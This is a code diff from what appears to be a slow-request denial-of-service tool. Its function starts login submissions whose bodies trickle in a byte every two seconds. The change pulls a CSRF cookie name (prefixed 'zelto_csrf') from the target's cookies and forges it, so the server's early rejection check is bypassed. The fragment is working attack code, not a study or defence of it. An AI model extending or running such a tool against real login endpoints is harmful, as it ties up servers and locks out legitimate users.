@@ -101,10 +101,12 @@ def _drip(sock: socket.socket, sent: bytes) -> None:
 
 async def leave_login_bodies(target: Target) -> None:
     """Begin logins whose bodies come by a byte every two seconds."""
+    names = (one.partition("=")[0] for one in target.cookie.split("; "))
+    csrf = next(name for name in names if name.startswith("zelto_csrf"))
     headers = {
         "Content-Type": "application/x-www-form-urlencoded",
         # Without one it is refused before its body is looked at; anybody gets one.
-        "Cookie": f"csrftoken={'a' * 32}",
+        "Cookie": f"{csrf}={'a' * 32}",
     }
     await _leave_bodies(target, "/login", headers, b"login=a")
 
